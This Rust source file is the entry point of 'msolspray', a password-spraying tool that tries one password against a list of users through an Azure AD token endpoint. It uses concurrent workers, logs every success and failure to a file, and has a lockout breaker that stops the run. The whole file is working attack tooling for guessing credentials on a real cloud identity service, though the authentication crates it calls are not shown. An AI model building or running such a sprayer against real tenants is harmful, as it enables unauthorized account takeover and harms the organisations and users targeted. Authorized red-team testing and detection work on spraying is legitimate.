//! msolspray
//!
//! Single-binary password sprayer for Azure AD:
//! 1. Parses flags and loads the optional TOML config
//! 2. Loads and normalizes the user list and the password
//! 3. Sprays the token endpoint with at most three workers
//! 4. Prints every outcome (and appends it to `--outfile`)
//! 5. Exits non-zero if the lockout breaker halted the run

mod cli;
mod config;
mod error;
mod inputs;
mod metrics;

use std::fs::OpenOptions;
use std::io::Write;
use std::sync::Arc;
use std::time::Duration;

use aad_auth::TokenEndpointAuthenticator;
use anyhow::{Context, Result};
use clap::Parser;
use spray_pool::{Aggregator, LockoutBreaker, SprayCounters, SprayReport, Sprayer};
use tracing::{Instrument, info, info_span, warn};
use tracing_subscriber::EnvFilter;
use tracing_subscriber::{layer::SubscriberExt, util::SubscriberInitExt};
use uuid::Uuid;

use crate::cli::Cli;
use crate::config::Config;

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();
    init_tracing(&cli);

    let span = info_span!("spray", run_id = %Uuid::new_v4());
    run(cli, Box::new(std::io::stdout()))
        .instrument(span)
        .await
        .map(|_| ())
}

/// Logs go to stderr so stdout carries only outcome lines.
fn init_tracing(cli: &Cli) {
    let filter = EnvFilter::try_from_env("LOG_LEVEL")
        .or_else(|_| EnvFilter::try_from_default_env())
        .unwrap_or_else(|_| EnvFilter::new(cli.default_log_level()));
    let registry = tracing_subscriber::registry().with(filter);

    if cli.json {
        registry
            .with(
                tracing_subscriber::fmt::layer()
                    .json()
                    .with_writer(std::io::stderr),
            )
            .init();
    } else {
        registry
            .with(
                tracing_subscriber::fmt::layer()
                    .with_target(false)
                    .with_writer(std::io::stderr),
            )
            .init();
    }
}

/// Assemble and execute one spray, writing outcome lines to `console`.
async fn run(cli: Cli, console: Box<dyn Write + Send>) -> Result<SprayReport> {
    let config = Config::load_or_default(cli.config.as_deref())
        .context("failed to load configuration")?;
    info!(
        token_endpoint = %config.spray.token_endpoint,
        lockout_threshold = config.spray.lockout_threshold,
        request_timeout_secs = config.spray.request_timeout_secs,
        "configuration loaded"
    );

    let password = cli.load_password()?;
    let users = inputs::load_users(&cli.users)?;
    info!(users = users.len(), "spraying users");

    let prometheus = match &config.metrics.textfile {
        Some(_) => Some(
            metrics::install_recorder().context("failed to install Prometheus recorder")?,
        ),
        None => None,
    };

    let authenticator = TokenEndpointAuthenticator::new(
        config.spray.token_endpoint.clone(),
        Duration::from_secs(config.spray.request_timeout_secs),
    )
    .context("failed to build HTTP client")?;

    let mut aggregator = Aggregator::new(
        cli.output_format(),
        console,
        Arc::new(SprayCounters::new()),
    );
    if let Some(path) = &cli.outfile {
        let file = OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)
            .map_err(|source| error::Error::Outfile {
                path: path.clone(),
                source,
            })?;
        info!(path = %path.display(), "appending outcomes to file");
        aggregator = aggregator.with_sink(Box::new(file));
    }

    let sprayer = Sprayer::new(
        Arc::new(authenticator),
        Arc::new(LockoutBreaker::new(config.spray.lockout_threshold)),
        cli.effective_workers(),
    );
    let result = sprayer.run(users, password, aggregator).await;

    if let (Some(handle), Some(path)) = (&prometheus, &config.metrics.textfile) {
        if let Err(e) = metrics::write_textfile(handle, path) {
            warn!(path = %path.display(), error = %e, "failed to write metrics textfile");
        }
    }

    let report = result.context("spray halted")?;
    info!(
        succeeded = report.succeeded,
        failed = report.failed,
        skipped = report.skipped,
        "spray complete"
    );
    Ok(report)
}
